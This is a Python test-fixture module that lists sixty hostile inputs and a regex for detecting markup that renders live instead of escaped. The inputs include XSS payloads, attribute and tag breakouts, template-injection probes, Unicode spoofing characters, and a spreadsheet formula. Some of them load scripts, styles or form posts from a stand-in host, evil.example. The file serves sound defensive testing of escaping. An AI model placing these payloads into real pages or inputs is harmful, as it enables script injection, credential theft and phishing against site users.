"""Sixty texts that would do harm as markup, and how markup that came alive is told from ours."""

import re

HOSTILE = [
    # Elements that run or load something.
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=data:text/html,x></object>", "<embed src=//evil.example>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<template><script>alert(1)</script></template>",
    "<x hx-get=/admin/secrets hx-trigger=load>", "<x data-copy=stolen data-confirm=yes>", "<dialog open>Sign in again</dialog>",
    # Ways out of where a text stands.
    "\"><svg onload=alert(1)>", "'><b>x</b>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</pre><b>x</b>",
    "</option></select><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!-- x", "--><b>x</b>",
    "]]><b>x</b>", "<![CDATA[<b>x</b>]]>", "<?xml version='1.0'?>", "<%= 7*7 %>", "`${alert(1)}`",
    # Languages of templates, and escapes that are undone once too often.
    "{{7*7}}", "{% for x in y %}", "{# x #}", "${7*7}", "#{7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;x", "%3Cscript%3E", "\\u003cscript\\u003e",
    # What is seen but not there, and there but not seen.
    "\u202eevil\u202c", "a\u2028b\u2029c", "zero\u200bwidth\ufeff", "\U000e0041\U000e0042 tags", "Z\u0351\u0352\u0353a\u0354l\u0355g\u0356o",
    # Forms of addresses, formulas of spreadsheets, and a word that no line can hold.
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "=HYPERLINK(\"//evil.example\")", "W" * 190,
]  # fmt: skip
# Markup of ours in a page: none of the hostile elements is among it.
ALIVE = re.compile(
    r"<script(?![^>]*\bsrc=\"/static/)|<img\b(?![^>]*\bsrc=\"/static/)|<svg on|<iframe|<object|<embed|<video|<audio src|<body on|<math"
    r"|<input autofocus on|<details open ont|<marquee|<a href=javascript|<form action=/|<base|<meta http-equiv=refresh|<link rel=stylesheet"
    r"|<style|<x |<dialog open>S|<b>x</b>|<svg><",
    re.IGNORECASE,
)
